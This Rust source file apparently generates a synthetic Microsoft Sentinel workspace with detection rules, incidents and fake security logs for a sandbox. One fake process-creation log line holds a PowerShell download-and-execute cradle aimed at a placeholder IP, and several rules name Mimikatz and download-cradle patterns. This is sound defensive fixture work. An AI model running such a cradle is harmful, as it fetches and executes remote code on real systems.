//! Log Analytics workspaces with Sentinel: analytics rules, incidents, comments and log tables.

use super::*;

#[allow(clippy::too_many_arguments)] // a workspace is drawn from the tenant's records and its own place
pub(super) fn workspace(
    rng: &mut StdRng,
    now: OffsetDateTime,
    spec: &TenantSpec,
    public: SandboxWorkspace,
    location: &str,
    machines: &[Machine],
    users: &[User],
    stale: bool,
) -> WorkspaceData {
    let ws_id = format!(
        "/subscriptions/{}/resourceGroups/{}/providers/Microsoft.OperationalInsights/workspaces/{}",
        public.subscription_id, public.resource_group, public.name
    );
    let si = format!("{ws_id}/providers/Microsoft.SecurityInsights");
    let etag = |rng: &mut StdRng| format!("\"{}\"", guid_from(rng));

    // Analytics rules.
    let rule_defs: &[(&str, &str, &str, &str)] = &[
        (
            "Scheduled",
            "Brute force attack against a Windows server",
            "Medium",
            "SecurityEvent | where EventID == 4625 | summarize Failures = count() by Computer, IpAddress, bin(TimeGenerated, 10m) | where Failures > 10",
        ),
        (
            "Scheduled",
            "Sign-ins from a suspicious IP address",
            "High",
            "SigninLogs | where IPAddress in ('203.0.113.50', '203.0.113.77') | project TimeGenerated, UserPrincipalName, IPAddress, AppDisplayName",
        ),
        (
            "Scheduled",
            "Mass role assignment changes",
            "Medium",
            "AzureActivity | where OperationNameValue =~ 'MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE' | summarize count() by Caller, bin(TimeGenerated, 1h) | where count_ > 5",
        ),
        (
            "Scheduled",
            "Firewall denies to known C2",
            "High",
            "CommonSecurityLog | where DeviceAction == 'deny' and DestinationIP in ('203.0.113.50', '198.51.100.23') | summarize count() by SourceIP",
        ),
        (
            "Scheduled",
            "New local administrator",
            "Low",
            "SecurityEvent | where EventID == 4732 | project TimeGenerated, Computer, Account",
        ),
        (
            "Scheduled",
            "Failed sign-ins spike",
            "Low",
            "SigninLogs | where ResultType != '0' | summarize count() by UserPrincipalName, bin(TimeGenerated, 1h) | where count_ > 20",
        ),
        (
            "Scheduled",
            "Rare process on a server",
            "Informational",
            "SecurityEvent | where EventID == 4688 | summarize count() by NewProcessName | where count_ < 2",
        ),
        (
            "Scheduled",
            "Agent heartbeat missing",
            "Low",
            "Heartbeat | summarize LastHeartbeat = max(TimeGenerated) by Computer | where LastHeartbeat < ago(1h)",
        ),
        (
            "Scheduled",
            "Resource group deleted",
            "Medium",
            "AzureActivity | where OperationNameValue endswith 'RESOURCEGROUPS/DELETE' and ActivityStatusValue == 'Success'",
        ),
        (
            "Scheduled",
            "Privileged sign-in from a new country",
            "High",
            "SigninLogs | where UserPrincipalName startswith 'admin' | summarize dcount(Location) by UserPrincipalName",
        ),
        (
            "Scheduled",
            "Outbound SMB to the internet",
            "Medium",
            "CommonSecurityLog | where DestinationPort == 445 and DeviceAction == 'allow'",
        ),
        (
            "Scheduled",
            "Security log cleared",
            "High",
            "SecurityEvent | where EventID == 1102",
        ),
        (
            "NRT",
            "NRT Mimikatz command line",
            "High",
            "SecurityEvent | where EventID == 4688 and CommandLine has 'sekurlsa'",
        ),
        (
            "NRT",
            "NRT Sign-in by a disabled account",
            "Medium",
            "SigninLogs | where ResultType == '50057'",
        ),
        (
            "NRT",
            "NRT Audit policy changed",
            "Low",
            "SecurityEvent | where EventID == 4719",
        ),
        ("Fusion", "Advanced Multistage Attack Detection", "High", ""),
        (
            "MicrosoftSecurityIncidentCreation",
            "Create incidents based on Microsoft Defender for Endpoint alerts",
            "Medium",
            "Microsoft Defender Advanced Threat Protection",
        ),
        (
            "MicrosoftSecurityIncidentCreation",
            "Create incidents based on Microsoft Entra ID Protection alerts",
            "Medium",
            "Azure Active Directory Identity Protection",
        ),
        (
            "Scheduled",
            "Suspicious PowerShell download cradle",
            "Medium",
            "SecurityEvent | where EventID == 4688 and CommandLine has 'DownloadString'",
        ),
        (
            "Scheduled",
            "Excessive account lockouts",
            "Low",
            "SecurityEvent | where EventID == 4740 | summarize count() by TargetAccount",
        ),
    ];
    let tactics = [
        "InitialAccess",
        "Execution",
        "Persistence",
        "CredentialAccess",
        "Discovery",
        "LateralMovement",
        "CommandAndControl",
        "Impact",
    ];
    let mut alert_rules = Vec::new();
    for (i, (kind, name, severity, query)) in rule_defs.iter().enumerate() {
        let rule_id = guid_from(rng);
        // A few rules are disabled, as in any real workspace.
        let enabled = !(i == 6 || i == 10 || i == 14);
        let modified = fmt_time(ago(rng, now, Duration::days(1), Duration::days(180)));
        let tactic = *pick(rng, &tactics);
        let properties = match *kind {
            "Scheduled" => json!({
                "displayName": name,
                "description": format!("{name}."),
                "severity": severity,
                "enabled": enabled,
                "query": query,
                "queryFrequency": "PT1H",
                "queryPeriod": "PT1H",
                "triggerOperator": "GreaterThan",
                "triggerThreshold": 0,
                "suppressionDuration": "PT5H",
                "suppressionEnabled": false,
                "tactics": [tactic],
                "techniques": [],
                "incidentConfiguration": {
                    "createIncident": true,
                    "groupingConfiguration": {"enabled": false, "reopenClosedIncident": false, "lookbackDuration": "PT5H", "matchingMethod": "AllEntities", "groupByEntities": [], "groupByAlertDetails": [], "groupByCustomDetails": []}
                },
                "eventGroupingSettings": {"aggregationKind": "SingleAlert"},
                "lastModifiedUtc": modified,
            }),
            "NRT" => json!({
                "displayName": name,
                "description": format!("{name}."),
                "severity": severity,
                "enabled": enabled,
                "query": query,
                "suppressionDuration": "PT5H",
                "suppressionEnabled": false,
                "tactics": [tactic],
                "techniques": [],
                "incidentConfiguration": {"createIncident": true, "groupingConfiguration": {"enabled": false, "reopenClosedIncident": false, "lookbackDuration": "PT5H", "matchingMethod": "AllEntities"}},
                "eventGroupingSettings": {"aggregationKind": "SingleAlert"},
                "lastModifiedUtc": modified,
            }),
            "Fusion" => json!({
                "displayName": name,
                "description": crate::content::FUSION_DESCRIPTION,
                "severity": severity,
                "enabled": enabled,
                "alertRuleTemplateName": crate::content::FUSION_TEMPLATE,
                "tactics": crate::content::FUSION_TACTICS,
                "techniques": [],
                "lastModifiedUtc": modified,
            }),
            // `MicrosoftSecurityIncidentCreationAlertRuleProperties` members are not
            // `x-nullable`: unset ones are left out.
            _ => json!({
                "displayName": name,
                "enabled": enabled,
                "productFilter": query,
                "severitiesFilter": ["High", "Medium"],
                "lastModifiedUtc": modified,
            }),
        };
        alert_rules.push(json!({
            "id": format!("{si}/alertRules/{rule_id}"),
            "name": rule_id,
            "type": "Microsoft.SecurityInsights/alertRules",
            "kind": kind,
            "etag": etag(rng),
            "properties": properties,
        }));
    }

    // Incidents.
    let mut incidents = Vec::new();
    let mut incident_comments = HashMap::new();
    let titles = [
        "Brute force attack against a Windows server",
        "Sign-ins from a suspicious IP address",
        "Firewall denies to known C2",
        "Mass role assignment changes",
        "Multi-stage incident involving Execution & Credential access",
        "Suspicious PowerShell download cradle",
        "Failed sign-ins spike",
        "New local administrator",
    ];
    let n_incidents = 30;
    let mut number = 1 + rng.random_range(0..400);
    for _ in 0..n_incidents {
        let name = guid_from(rng);
        number += rng.random_range(1..5);
        let created = ago(rng, now, Duration::minutes(10), Duration::days(14));
        let modified = created + Duration::minutes(rng.random_range(0..600)).min(now - created);
        let status = *pick(rng, &["New", "New", "Active", "Closed"]);
        let severity = *pick(rng, &["High", "Medium", "Medium", "Low", "Informational"]);
        let owner = if status == "New" {
            None
        } else {
            Some(&users[rng.random_range(0..users.len())])
        };
        let rule = &alert_rules[rng.random_range(0..alert_rules.len())];
        let mut properties = json!({
            "title": *pick(rng, &titles),
            "description": "",
            "severity": severity,
            "status": status,
            "incidentNumber": number,
            "createdTimeUtc": fmt_time(created),
            "lastModifiedTimeUtc": fmt_time(modified),
            "firstActivityTimeUtc": fmt_time(created - Duration::minutes(rng.random_range(5..120))),
            "lastActivityTimeUtc": fmt_time(created - Duration::minutes(rng.random_range(0..5))),
            "owner": match owner {
                Some(u) => json!({"objectId": u.object_id, "email": u.upn, "assignedTo": u.display, "userPrincipalName": u.upn, "ownerType": "User"}),
                // `IncidentOwnerInfo` members are not `x-nullable`: an unassigned owner has none.
                None => json!({"ownerType": "Unknown"}),
            },
            "labels": [],
            "incidentUrl": format!("https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident{}/incidents/{name}", si),
            "providerName": "Azure Sentinel",
            "providerIncidentId": number.to_string(),
            "additionalData": {
                "alertsCount": rng.random_range(1..6),
                "bookmarksCount": 0,
                "commentsCount": 0,
                "alertProductNames": ["Azure Sentinel"],
                "tactics": [*pick(rng, &tactics)],
            },
            "relatedAnalyticRuleIds": [rule["id"].clone()],
        });
        if status == "Closed" {
            properties["classification"] = json!(*pick(
                rng,
                &["TruePositive", "BenignPositive", "FalsePositive"]
            ));
            properties["classificationReason"] = match properties["classification"].as_str() {
                Some("TruePositive") => json!("SuspiciousActivity"),
                Some("BenignPositive") => json!("SuspiciousButExpected"),
                _ => json!("IncorrectAlertLogic"),
            };
            properties["classificationComment"] = json!("Closed by the SOC");
        }
        let mut comments = Vec::new();
        if status != "New" && rng.random_bool(0.5) {
            let author = owner.unwrap_or(&users[0]);
            let cid = guid_from(rng);
            let at = fmt_time(modified);
            comments.push(json!({
                "id": format!("{si}/incidents/{name}/comments/{cid}"),
                "name": cid,
                "type": "Microsoft.SecurityInsights/Incidents/Comments",
                "etag": etag(rng),
                "properties": {
                    "message": "Triage started; checking the affected hosts.",
                    "createdTimeUtc": at,
                    "lastModifiedTimeUtc": at,
                    "author": {"objectId": author.object_id, "email": author.upn, "name": author.display, "userPrincipalName": author.upn},
                },
            }));
            properties["additionalData"]["commentsCount"] = json!(1);
        }
        incident_comments.insert(name.clone(), comments);
        incidents.push(json!({
            "id": format!("{si}/incidents/{name}"),
            "name": name,
            "type": "Microsoft.SecurityInsights/Incidents",
            "etag": etag(rng),
            "properties": properties,
        }));
    }

    let mut logs = log_tables(rng, now, spec, &public, machines, users, stale);
    logs.insert(crate::content::sentinel_health(
        now,
        &public.customer_id,
        &alert_rules,
    ));
    let people: Vec<crate::content::Person> = users
        .iter()
        .map(|u| crate::content::Person {
            upn: u.upn.clone(),
            display: u.display.clone(),
            object_id: u.object_id.clone(),
        })
        .collect();
    let hosts: Vec<crate::content::Host> = machines
        .iter()
        .filter(|m| m.onboarding_status == "Onboarded")
        .map(|m| crate::content::Host {
            dns_name: m.computer_dns_name.clone(),
            ip: m.last_ip_address.clone(),
            server: m.os_platform.starts_with("WindowsServer"),
        })
        .collect();
    let scope = crate::content::WorkspaceScope {
        workspace_id: &ws_id,
        customer_id: &public.customer_id,
        subscription_id: &public.subscription_id,
        location,
    };
    let content = crate::content::generate(&scope, now, &people, &hosts, &alert_rules, &incidents);
    WorkspaceData {
        public,
        location: location.into(),
        retention_in_days: if stale { 90 } else { 30 },
        created: now - Duration::days(400),
        alert_rules,
        incidents,
        incident_comments,
        logs,
        table_settings: HashMap::new(),
        content,
    }
}
pub(super) fn log_tables(
    rng: &mut StdRng,
    now: OffsetDateTime,
    spec: &TenantSpec,
    ws: &SandboxWorkspace,
    machines: &[Machine],
    users: &[User],
    stale: bool,
) -> Database {
    let mut db = Database::default();
    let tenant_col = || s(&ws.customer_id);
    let servers: Vec<&Machine> = machines
        .iter()
        .filter(|m| m.os_platform.starts_with("WindowsServer"))
        .collect();
    let linux: Vec<&Machine> = machines
        .iter()
        .filter(|m| m.os_platform == "Linux")
        .collect();
    let short = |m: &Machine| {
        m.computer_dns_name
            .split('.')
            .next()
            .unwrap_or_default()
            .to_uppercase()
    };

    // Heartbeat: every monitored computer, every 30 minutes for the last 12 hours.
    let mut hb = Table::new(
        "Heartbeat",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("Computer", ColType::String),
            Column::new("ComputerIP", ColType::String),
            Column::new("OSType", ColType::String),
            Column::new("Category", ColType::String),
            Column::new("Version", ColType::String),
            Column::new("ResourceGroup", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    for m in servers.iter().chain(linux.iter()) {
        for k in 0..24 {
            hb.push_named(vec![
                ("TenantId", tenant_col()),
                (
                    "TimeGenerated",
                    K::DateTime(now - Duration::minutes(30 * k + rng.random_range(0..5))),
                ),
                ("Computer", s(&m.computer_dns_name)),
                ("ComputerIP", s(&m.last_ip_address)),
                (
                    "OSType",
                    s(if m.os_platform == "Linux" {
                        "Linux"
                    } else {
                        "Windows"
                    }),
                ),
                ("Category", s("Azure Monitor Agent")),
                ("Version", s("1.30.0.0")),
                ("ResourceGroup", s("rg-servers")),
                ("Type", s("Heartbeat")),
            ]);
        }
    }
    db.insert(hb);

    let mut se = Table::new(
        "SecurityEvent",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("Computer", ColType::String),
            Column::new("EventID", ColType::Int),
            Column::new("Activity", ColType::String),
            Column::new("Account", ColType::String),
            Column::new("AccountType", ColType::String),
            Column::new("LogonType", ColType::Int),
            Column::new("IpAddress", ColType::String),
            Column::new("NewProcessName", ColType::String),
            Column::new("CommandLine", ColType::String),
            Column::new("TargetAccount", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    let events: &[(i64, &str)] = &[
        (4624, "4624 - An account was successfully logged on."),
        (4625, "4625 - An account failed to log on."),
        (4688, "4688 - A new process has been created."),
        (4672, "4672 - Special privileges assigned to new logon."),
        (
            4732,
            "4732 - A member was added to a security-enabled local group.",
        ),
        (4740, "4740 - A user account was locked out."),
    ];
    for i in 0..160 {
        let m = *pick(rng, &servers);
        let (id, activity) = if i % 40 == 0 {
            events[4]
        } else {
            *pick(rng, &events[..4])
        };
        let u = &users[rng.random_range(0..users.len())];
        let account = format!("{}\\{}", spec.netbios, u.account);
        let (proc_name, cmd) = if id == 4688 {
            let p = *pick(
                rng,
                &[
                    "C:\\Windows\\System32\\cmd.exe",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "C:\\Windows\\System32\\svchost.exe",
                ],
            );
            let c = if p.ends_with("powershell.exe") && i % 11 == 0 {
                "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')"
            } else {
                ""
            };
            (s(p), s(c))
        } else {
            (K::Null, K::Null)
        };
        se.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
            ("Computer", s(&m.computer_dns_name)),
            ("EventID", K::Long(id)),
            ("Activity", s(activity)),
            ("Account", s(&account)),
            ("AccountType", s("User")),
            (
                "LogonType",
                if id == 4624 || id == 4625 {
                    K::Long(*pick(rng, &[2, 3, 10]))
                } else {
                    K::Null
                },
            ),
            (
                "IpAddress",
                if id == 4625 && i % 3 == 0 {
                    s(MALICIOUS_REMOTE[0].0)
                } else {
                    s(format!(
                        "10.{}.1.{}",
                        spec.subnet,
                        rng.random_range(10..250)
                    ))
                },
            ),
            ("NewProcessName", proc_name),
            ("CommandLine", cmd),
            (
                "TargetAccount",
                if id == 4732 || id == 4740 {
                    s(&account)
                } else {
                    K::Null
                },
            ),
            ("Type", s("SecurityEvent")),
        ]);
    }
    db.insert(se);

    let mut signin = Table::new(
        "SigninLogs",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("UserPrincipalName", ColType::String),
            Column::new("UserDisplayName", ColType::String),
            Column::new("AppDisplayName", ColType::String),
            Column::new("IPAddress", ColType::String),
            Column::new("Location", ColType::String),
            Column::new("ResultType", ColType::String),
            Column::new("ResultDescription", ColType::String),
            Column::new("ConditionalAccessStatus", ColType::String),
            Column::new("ClientAppUsed", ColType::String),
            Column::new("RiskLevelDuringSignIn", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    for i in 0..130 {
        let u = &users[rng.random_range(0..users.len())];
        let suspicious = i % 15 == 0;
        let failed = suspicious || rng.random_bool(0.1);
        signin.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
            ("UserPrincipalName", s(&u.upn)),
            ("UserDisplayName", s(&u.display)),
            (
                "AppDisplayName",
                s(*pick(
                    rng,
                    &[
                        "Office 365 Exchange Online",
                        "Microsoft Teams",
                        "Azure Portal",
                        "Microsoft Office 365 Portal",
                        "Windows Sign In",
                    ],
                )),
            ),
            (
                "IPAddress",
                if suspicious {
                    s(MALICIOUS_REMOTE[2].0)
                } else {
                    s(format!(
                        "{}.{}.{}",
                        spec.external_prefix,
                        rng.random_range(1..250),
                        rng.random_range(1..250)
                    ))
                },
            ),
            (
                "Location",
                s(if suspicious {
                    "RU"
                } else {
                    *pick(rng, &["DE", "NL", "US", "GB", "FR"])
                }),
            ),
            (
                "ResultType",
                s(if failed {
                    *pick(rng, &["50126", "50053", "50074"])
                } else {
                    "0"
                }),
            ),
            (
                "ResultDescription",
                s(if failed {
                    "Invalid username or password or Invalid on-premise username or password."
                } else {
                    ""
                }),
            ),
            (
                "ConditionalAccessStatus",
                s(if failed { "notApplied" } else { "success" }),
            ),
            (
                "ClientAppUsed",
                s(*pick(rng, &["Browser", "Mobile Apps and Desktop clients"])),
            ),
            (
                "RiskLevelDuringSignIn",
                s(if suspicious { "high" } else { "none" }),
            ),
            ("Type", s("SigninLogs")),
        ]);
    }
    db.insert(signin);

    let mut activity = Table::new(
        "AzureActivity",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("OperationNameValue", ColType::String),
            Column::new("ActivityStatusValue", ColType::String),
            Column::new("Caller", ColType::String),
            Column::new("CallerIpAddress", ColType::String),
            Column::new("ResourceGroup", ColType::String),
            Column::new("SubscriptionId", ColType::String),
            Column::new("CategoryValue", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    for i in 0..70 {
        let u = &users[rng.random_range(0..4)];
        activity.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
            (
                "OperationNameValue",
                s(*pick(
                    rng,
                    &[
                        "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE",
                        "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION",
                        "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
                        "MICROSOFT.RESOURCES/SUBSCRIPTIONS/RESOURCEGROUPS/DELETE",
                        "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE",
                        "MICROSOFT.KEYVAULT/VAULTS/WRITE",
                    ],
                )),
            ),
            (
                "ActivityStatusValue",
                s(*pick(
                    rng,
                    &["Success", "Success", "Success", "Failure", "Start"],
                )),
            ),
            ("Caller", s(&u.upn)),
            (
                "CallerIpAddress",
                s(format!(
                    "{}.{}.{}",
                    spec.external_prefix,
                    rng.random_range(1..250),
                    rng.random_range(1..250)
                )),
            ),
            (
                "ResourceGroup",
                s(*pick(
                    rng,
                    &["rg-servers", "rg-network", ws.resource_group.as_str()],
                )),
            ),
            ("SubscriptionId", s(&ws.subscription_id)),
            ("CategoryValue", s("Administrative")),
            ("Type", s("AzureActivity")),
        ]);
    }
    db.insert(activity);

    let mut cef = Table::new(
        "CommonSecurityLog",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("DeviceVendor", ColType::String),
            Column::new("DeviceProduct", ColType::String),
            Column::new("Activity", ColType::String),
            Column::new("DeviceAction", ColType::String),
            Column::new("SourceIP", ColType::String),
            Column::new("DestinationIP", ColType::String),
            Column::new("DestinationPort", ColType::Int),
            Column::new("Protocol", ColType::String),
            Column::new("LogSeverity", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    // The stale table's newest row is three days old (a broken connector). Its rows stay within
    // the last week, so the week before the break has a clear daily baseline (15 rows a day)
    // that the last day's none drops from, whatever the draws.
    let (newest, oldest) = if stale {
        (Duration::days(3), Duration::days(7) - Duration::hours(1))
    } else {
        (Duration::minutes(1), Duration::days(7))
    };
    for i in 0..90 {
        let (dst, port) = if i % 10 == 0 {
            let r = *pick(rng, &MALICIOUS_REMOTE[..2]);
            (r.0.to_string(), r.2)
        } else {
            let r = *pick(rng, BENIGN_REMOTE);
            (r.0.to_string(), *pick(rng, &[443, 443, 80, 53, 445]))
        };
        let ts = if i == 0 {
            now - newest
        } else {
            ago(rng, now, newest, oldest)
        };
        cef.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(ts)),
            ("DeviceVendor", s("Palo Alto Networks")),
            ("DeviceProduct", s("PAN-OS")),
            ("Activity", s("TRAFFIC")),
            (
                "DeviceAction",
                s(if i % 10 == 0 {
                    "deny"
                } else {
                    *pick(rng, &["allow", "allow", "allow", "deny"])
                }),
            ),
            (
                "SourceIP",
                s(format!(
                    "10.{}.{}.{}",
                    spec.subnet,
                    rng.random_range(1..8),
                    rng.random_range(10..250)
                )),
            ),
            ("DestinationIP", s(dst)),
            ("DestinationPort", K::Long(port)),
            ("Protocol", s("TCP")),
            ("LogSeverity", s(*pick(rng, &["1", "3", "5"]))),
            ("Type", s("CommonSecurityLog")),
        ]);
    }
    db.insert(cef);

    let mut sa = Table::new(
        "SecurityAlert",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("AlertName", ColType::String),
            Column::new("AlertSeverity", ColType::String),
            Column::new("ProviderName", ColType::String),
            Column::new("ProductName", ColType::String),
            Column::new("Status", ColType::String),
            Column::new("CompromisedEntity", ColType::String),
            Column::new("SystemAlertId", ColType::String),
            Column::new("Tactics", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    for i in 0..28 {
        let tpl = pick(rng, ALERT_TEMPLATES);
        let m = *pick(rng, &servers);
        sa.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
            ("AlertName", s(tpl.title)),
            ("AlertSeverity", s(tpl.severity)),
            ("ProviderName", s("MDATP")),
            (
                "ProductName",
                s("Microsoft Defender Advanced Threat Protection"),
            ),
            ("Status", s(*pick(rng, &["New", "Resolved"]))),
            ("CompromisedEntity", s(short(m))),
            ("SystemAlertId", s(guid_from(rng))),
            ("Tactics", s(tpl.category)),
            ("Type", s("SecurityAlert")),
        ]);
    }
    db.insert(sa);
    db
}
